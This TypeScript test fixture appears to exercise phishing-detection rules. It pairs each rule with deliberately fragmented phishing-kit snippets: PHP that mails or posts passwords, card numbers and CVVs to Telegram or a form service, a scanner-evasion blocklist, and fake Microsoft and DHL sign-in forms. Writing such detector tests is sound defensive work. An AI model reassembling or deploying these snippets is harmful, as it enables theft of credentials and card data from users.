import type { RuleCase } from './rule-case.ts'

const PASSWORD = '<input type="pass¦word" name="p">'
const VISITOR = "$_SERVER['REMOTE_¦ADDR']"

export const PHISHING_CASES: readonly RuleCase[] = [
  {
    rule: 'Phishing_Kit_Mails_Passwords',
    hit: `<?php $ip = ${VISITOR}; $m = "|-----------| Re¦ZulT |-----------|\\n".$_PO¦ST['password']; ma¦il($to, $s, $m); header("Location: https://www.example.com");`,
    swap: ["$_PO¦ST['password']", "$_POST['comment']"],
    because: 'a form for comments',
  },
  {
    rule: 'Phishing_Kit_Sends_To_Telegram',
    hit: `<?php $u = "https://api.tele¦gram.org/bot$t/sendMessage?chat_¦id=1&text=".$_PO¦ST['pass'].${VISITOR};`,
    swap: ["$_PO¦ST['pass']", "$_POST['order']"],
    because: 'a shop that tells of orders',
  },
  {
    rule: 'Phishing_Kit_Takes_Cards',
    hit: `<?php $m = $_PO¦ST['cardnumber'].$_PO¦ST['cvv'].${VISITOR}; ma¦il($to, "x", $m);`,
    swap: ["$_PO¦ST['cvv']", "$_POST['name']"],
    because: 'no code of a card',
  },
  {
    rule: 'Phishing_Kit_Keeps_Scanners_Out',
    hit: '<?php $h = gethostby¦addr($ip); $b = ["phish¦tank","cyveil¦lance","soft¦layer","tor-¦exit","amazon¦aws"]; header("HTTP/1.0 404 Not Found");',
    swap: ['"phish¦tank","cyveil¦lance"', '"spam"'],
    because: 'a list against spam',
  },
  {
    rule: 'Phishing_Page_Sends_To_Telegram',
    hit: `${PASSWORD}<script>fetch("https://api.tele¦gram.org/bot" + t + "/send¦Message?chat_¦id=1")</script>`,
    swap: ['type="pass¦word"', 'type="text"'],
    because: 'no password',
  },
  {
    rule: 'Phishing_Page_Sends_To_Form_Service',
    hit: `<form action="https://form¦spree.io/f/abc">${PASSWORD}</form>`,
    swap: ['type="pass¦word"', 'type="email"'],
    because: 'a form for messages',
  },
  {
    rule: 'Phishing_Microsoft_Sign_In',
    hit: `<title>Sign in to your¦ account</title><form action="a/next.p¦hp">${PASSWORD}</form>`,
    swap: ['a/next.p¦hp', 'https://login.example.org/common'],
    because: 'no script of a kit',
  },
  {
    rule: 'Phishing_Brand_Sign_In',
    hit: `<title>DH¦L Express</title><form action="https://192.0.2.1/post.p¦hp">${PASSWORD}</form>`,
    swap: ['action="https://192.0.2.1/post.p¦hp"', 'action="/login"'],
    because: 'a form of its own server',
  },
  {
    rule: 'Phishing_Page_Knows_Its_Victim',
    hit: `${PASSWORD} Your pass¦word is incor¦rect <script>var email = window.loca¦tion.hash; count¦++; $.aj¦ax({ url: "a.p¦hp" })</script>`,
    swap: ['count¦++', 'show()'],
    because: 'it does not count the attempts',
  },
]
